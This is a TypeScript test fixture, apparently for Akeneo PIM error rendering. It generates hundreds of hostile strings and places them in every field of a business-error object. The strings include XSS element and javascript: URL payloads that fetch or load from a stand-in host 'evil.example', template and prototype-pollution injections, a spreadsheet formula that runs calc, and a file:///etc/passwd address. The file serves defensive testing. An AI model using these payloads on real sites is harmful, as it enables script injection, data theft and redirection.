/** What an attack does when it works: visible to a test in the page's title, and to the network. */
const DEED = "document.title='owned';fetch('https://evil.example/')";

const elements = [
  `<script>${DEED}</script>`,
  '<script src=https://evil.example/a.js></script>',
  `<img src=x onerror="${DEED}">`,
  `<svg onload="${DEED}">`,
  `<svg><script>${DEED}</script></svg>`,
  `<svg><animate onbegin="${DEED}" attributeName=x dur=1s>`,
  `<body onload="${DEED}">`,
  `<iframe srcdoc="<script>${DEED}</script>"></iframe>`,
  `<iframe src="javascript:${DEED}"></iframe>`,
  '<iframe src=https://evil.example/></iframe>',
  '<object data=https://evil.example/></object>',
  '<embed src=https://evil.example/>',
  '<link rel=stylesheet href=https://evil.example/a.css>',
  '<style>@import url(https://evil.example/a.css);</style>',
  '<div style="background:url(https://evil.example/a.png)">',
  `<input autofocus onfocus="${DEED}">`,
  `<details open ontoggle="${DEED}">`,
  `<video><source onerror="${DEED}"></video>`,
  `<audio src=x onerror="${DEED}">`,
  `<marquee onstart="${DEED}">`,
  `<math><mtext></form><form><mglyph><svg><mtext><style><path id="</style><img onerror=${DEED} src>">`,
  `<a href="javascript:${DEED}">x</a>`,
  `<form action="javascript:${DEED}"><input type=submit>`,
  '<base href=https://evil.example/>',
  '<meta http-equiv=refresh content="0;url=https://evil.example/">',
  `<template><img src=x onerror="${DEED}"></template>`,
  `<noscript><p title="</noscript><img src=x onerror='${DEED}'>">`,
  `<x onclick="${DEED}" tabindex=0 id=x>`,
  `<button formaction="javascript:${DEED}">x</button>`,
  `<isindex action="javascript:${DEED}" type=image>`,
];

const addresses = [
  `javascript:${DEED}`,
  `JaVaScRiPt:${DEED}`,
  `java\tscript:${DEED}`,
  `java\nscript:${DEED}`,
  ` \u0001javascript:${DEED}`,
  `javascript://help.akeneo.com/%0a${DEED}`,
  `data:text/html,<script>${DEED}</script>`,
  `data:text/html;base64,${btoa(`<script>${DEED}</script>`)}`,
  `vbscript:${DEED}`,
  'https://evil.example/',
  'https://help.akeneo.com.evil.example/',
  'https://help.akeneo.com@evil.example/',
  'https://evil.example\\@help.akeneo.com/',
  '//evil.example/',
  '\\\\evil.example\\',
  'http://help.akeneo.com/',
  'file:///etc/passwd',
  'blob:https://evil.example/1',
  'chrome-extension://abc/page.html',
  'filesystem:https://evil.example/temporary/1',
];

const texts = [
  '__proto__',
  'constructor',
  'toString',
  'hasOwnProperty',
  '{{constructor.constructor("alert(1)")()}}',
  '$' + '{alert(1)}',
  '$&$1$`',
  '{needle}%s%d\u0000\uffff',
  '=cmd|"/c calc"!A0',
  '\u202egnp.exe',
  '\ud800',
  '--></script></style></textarea></title>',
  ']]>',
  '\u2028\u2029',
  'a'.repeat(5000),
];

/** The same in other clothes: quotes before it, broken tags, other cases, entities, other encodings. */
const clothes: ReadonlyArray<(text: string) => string> = [
  (text) => text,
  (text) => `">${text}`,
  (text) => `'>${text}<!--`,
  (text) => `</title></textarea></style>${text}`,
  (text) => text.replaceAll('<', '<\u0000'),
  (text) => text.toUpperCase(),
  (text) => text.replaceAll('<', '&lt;').replaceAll('>', '&gt;'),
  (text) => encodeURIComponent(text.replaceAll('\ud800', '')),
  (text) => `${text}${text}`,
];

/** More than 500 texts that are dangerous wherever a text is taken for more than a text. */
export const hostileTexts: readonly string[] = [
  ...new Set([...elements, ...addresses, ...texts].flatMap((text) => clothes.map((dress) => dress(text)))),
];

/** A business error with this text in every place where the PIM sends one (contract 7). */
export function hostileError(text: string, connection: string, at: number) {
  const target = { title: text, href: text, type: 'href' };
  return {
    connection_code: connection,
    date_time: new Date(at).toISOString().replace(/\.\d+Z$/, '+00:00'),
    content: {
      type: 'violation_error',
      message: `Value ${text} of %attribute% is wrong.`,
      message_template: `Value {{ value }} of %attribute% is ${text}.`,
      message_parameters: { '{{ value }}': text, '%attribute%': text, [text]: text },
      property: text,
      attribute: text,
      locale: text,
      scope: text,
      currency: text,
      product: { uuid: text, identifier: text, label: text, family: text },
      documentation: [
        {
          message: `${text} {a} {b} {c}`,
          style: text,
          parameters: {
            a: target,
            b: { type: 'route', route: text, routeParameters: { code: text }, title: text },
            c: { type: 'route', route: 'pim_enrich_attribute_edit', routeParameters: { code: text }, title: text },
            [text]: target,
          },
        },
        { message: `See {a}.`, style: 'text', parameters: { a: { ...target, type: text } } },
      ],
      [text]: text,
      more: { [text]: [text, { [text]: text }] },
    },
  };
}
